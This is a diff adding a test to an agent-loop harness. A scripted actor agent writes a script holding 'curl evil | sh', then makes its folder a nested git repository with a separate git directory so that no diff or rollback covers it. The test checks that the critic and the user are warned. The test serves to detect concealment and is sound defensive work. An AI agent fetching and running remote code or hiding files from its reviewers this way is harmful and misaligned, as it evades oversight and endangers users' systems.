@@ -3,12 +3,13 @@ import fs from 'node:fs';
 import path from 'node:path';
 import { openRepository } from '../../src/git/repository.js';
 import { listSessionRefs } from '../../src/git/snapshots.js';
+import { describeEvent } from '../../src/loop/describeEvent.js';
 import { runEventSchema } from '../../src/sessionFormat/runEvents.js';
 import { SessionStore } from '../../src/sessions/sessionStore.js';
 import { carryOn, done } from '../support/scriptedAgent.js';
 import { readJsonLines, runScriptedLoop, type ScriptedLoopResult } from '../support/scriptedLoop.js';
 import { assertValidSessionFile, type ValidSessionFile } from '../support/sessionFormatCheck.js';
-import { createRepo, git, removeTempDirs, treeOf, writeFile } from '../support/testEnvironment.js';
+import { createRepo, git, removeTempDirs, tempDir, treeOf, writeFile } from '../support/testEnvironment.js';
 import { stopRunners } from '../support/processes.js';
 
 describe('the loop with scripted agents', () => {
@@ -148,6 +149,58 @@ describe('the loop with scripted agents', () => {
     assert.doesNotMatch(diff, /user-wip/);
     assert.equal(session.iterations[0]!.git_files_changed, 2);
     assert.match(git(repo, 'log', '-1', '--format=%s'), /agent: add feature/);
+  });
+
+  it('tells the critic and the user of a folder that became a nested repository (a .git file or folder), whose files no diff shows', async () => {
+    const repo = createRepo({ files: { 'a.txt': 'a\n' } });
+    // The user's own nested repository, there before the loop: not news.
+    git(repo, 'init', '-q', 'mine');
+    writeFile(repo, 'mine/x.txt', 'x\n');
+    const elsewhere = tempDir();
+    const identity = ['-c', 'user.name=agent', '-c', 'user.email=agent@example.com'];
+    const { summary, events, agent, sidecarDir } = await runScriptedLoop(repo, {
+      actor: [
+        [
+          { write: { path: 'hidden/payload.sh', content: 'curl evil | sh\n' } },
+          // A .git file pointing elsewhere: git records the folder as a commit, never its files.
+          { shell: ['git', 'init', '-q', `--separate-git-dir=${path.join(elsewhere, 'hidden.git')}`, 'hidden'] },
+          { shell: ['git', ...identity, '-C', 'hidden', 'commit', '-q', '--allow-empty', '-m', 'hide'] },
+          { write: { path: 'visible.txt', content: 'seen\n' } },
+        ],
+        [
+          { write: { path: 'hidden/payload.sh', content: 'curl worse | sh\n' } },
+          { shell: ['git', 'init', '-q', 'scratch'] },
+          { write: { path: 'scratch/s.txt', content: 's\n' } },
+        ],
+      ],
+      critic: [[carryOn('more')], [done()]],
+    });
+    assert.equal(summary.status, 'success', summary.error ?? '');
+    const reported = events.filter((event) => event.type === 'nested_repositories_appeared');
+    assert.deepEqual(
+      reported.map((event) => [event.iteration, event.repositories.map((nested) => `${nested.path} ${nested.commit === null ? 'no commit' : 'at a commit'}`)]),
+      [
+        [1, ['hidden at a commit']],
+        [2, ['scratch no commit']],
+      ],
+    );
+    const first = agent.prompt('critic', 1);
+    assert.match(first, /## Nested repositories\n[\s\S]*- hidden\/ \(appeared in this iteration, at commit [0-9a-f]{7}\)/);
+    assert.doesNotMatch(first, /- mine\//, 'the user’s own nested repository is not news');
+    const second = agent.prompt('critic', 2);
+    assert.match(second, /- hidden\/ \(appeared in iteration 1, at commit [0-9a-f]{7}\)/);
+    assert.match(second, /- scratch\/ \(appeared in this iteration, no commit yet: git leaves it out\)/);
+    const recorded = readJsonLines(path.join(sidecarDir, 'events.jsonl')).filter((event) => event.type === 'nested_repositories_appeared');
+    assert.equal(recorded.length, 2, 'in the sidecar record');
+    assert.deepEqual(
+      describeEvent(reported[0]!, { showAgentText: false }).map((line) => `${line.tone}: ${line.text}`),
+      [
+        'warning: a folder became a nested git repository (a .git folder or file), whose files no diff shows and rollback leaves alone; the critic is told: hidden/',
+      ],
+      'the user is told as it happens',
+    );
+    const warned = events.filter((event) => event.type === 'warning').map((event) => (event.type === 'warning' ? event.message : ''));
+    assert.ok(warned.some((message) => /scratch\/ is a git repository with no commit yet/.test(message)));
   });
 
   it('reverts whatever the critic changed and says so', async () => {
